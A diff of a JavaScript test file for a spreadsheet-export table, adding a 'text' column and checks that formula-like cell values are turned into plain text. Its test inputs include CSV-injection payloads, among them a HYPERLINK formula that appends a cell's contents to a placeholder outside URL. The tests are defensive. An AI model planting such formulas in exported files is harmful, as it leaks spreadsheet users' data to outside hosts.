@@ -20,7 +20,7 @@ describe('columns', () => {
   it("puts the input's columns first, then the result's", () => {
     const [header, row] = table(['sku', 'title'], [manifestLine({ input: { sku: '00123' } })]);
     expect(header).toEqual([
-      ...['sku', 'title', 'brief_id', 'status', 'asset', 'error_code', 'error_message'],
+      ...['sku', 'title', 'brief_id', 'status', 'asset', 'text', 'error_code', 'error_message'],
       ...['credits', 'model', 'prompt', 'params', 'task_id', 'attempt'],
       ...['submitted', 'completed', 'source', 'row', 'run', 'from', 'decision'],
     ]);
@@ -52,6 +52,11 @@ describe('columns', () => {
 });
 
 describe('cells', () => {
+  it('has what a chat has said, and makes text of a formula in it', () => {
+    const [header, row] = table([], [manifestLine({ text: '=1+1\nsecond line' })]);
+    expect(row?.[header?.indexOf('text') ?? -1]).toBe("'=1+1\nsecond line");
+  });
+
   it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t1', '\r1', '=HYPERLINK("http://a.test?"&A1)'])(
     'makes text of %j, which a spreadsheet would run',
     (formula) => {
